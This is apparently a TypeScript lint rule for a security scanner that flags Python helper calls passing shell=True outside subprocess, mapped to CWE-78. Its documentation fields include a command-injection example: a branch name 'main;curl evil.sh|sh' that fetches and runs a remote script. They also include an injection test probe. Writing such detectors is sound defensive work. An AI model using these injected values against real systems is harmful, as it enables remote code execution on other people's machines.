// call-with-shell-true: a non-subprocess helper called with shell=True (Bandit B604, Ruff S604).
import type { Node } from '../../src/analysis/syntax-node.js';
import { defineRule } from '../../src/analysis/rule.js';
import { SUBPROCESS_FNS } from '../../src/analysis/python/command-line.js';

const COVERED: ReadonlySet<string> = new Set(SUBPROCESS_FNS);

export default defineRule({
  meta: {
    id: 'call-with-shell-true',
    title: 'Function call with shell=True outside subprocess',
    category: 'command-injection',
    cwe: ['CWE-78'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'medium',
    riskScore: 5,
    confidence: 'low',
    threat: 'integrity',
    timeline: '7-days',
    aliases: { bandit: ['B604'], ruff: ['S604'] },
    messages: {
      shell: '`{{fn}}` is called with shell=True; if it wraps a process start, its command is parsed by a shell.',
    },
    docs: {
      whatItDoes:
        'Flags calls to functions other than the `subprocess` ones that pass `shell=True` (wrappers such as `utils.execute`, `invoke.run`, `fabric` helpers).',
      whyBad:
        'Helpers with a `shell` flag usually forward it to `subprocess`; their command string then goes through `/bin/sh` with all its injection risks.',
      businessImpact:
        'Command injection through an in-house wrapper is as severe as through subprocess itself: remote code execution.',
      attackScenario:
        'A deploy helper `run(cmd, shell=True)` receives a branch name from a webhook; the attacker names a branch `main;curl evil.sh|sh`.',
      example: 'utils.execute("tar xf " + archive, shell=True)',
      useInstead: 'utils.execute(["tar", "xf", archive])',
      testing:
        'Check what the wrapper forwards `shell` to, then call it with `; touch /tmp/pwned` in the command and assert nothing is created.',
      knownProblems:
        'The rule cannot see inside the called function; a parameter merely named `shell` that is unrelated to processes is a false positive.',
      references: ['https://cwe.mitre.org/data/definitions/78.html'],
    },
  },
  hints: ['shell'],
  create(ctx) {
    const check = (kwarg: Node) => {
      const name = kwarg.childForFieldName('name');
      if (name?.text !== 'shell') return;
      const call = kwarg.parent?.parent;
      if (call?.type !== 'call') return;
      const fn = ctx.call(call).name;
      if (fn && COVERED.has(fn)) return;
      // Only boolean-like values: `shell="/bin/bash"` names a shell program, it does not switch one on.
      const value = ctx.staticValue(kwarg.childForFieldName('value'));
      if (value !== true && value !== 1) return;
      ctx.report({ node: call, messageId: 'shell', data: { fn: fn ?? 'call' } });
    };
    return { nodes: { keyword_argument: check } };
  },
});
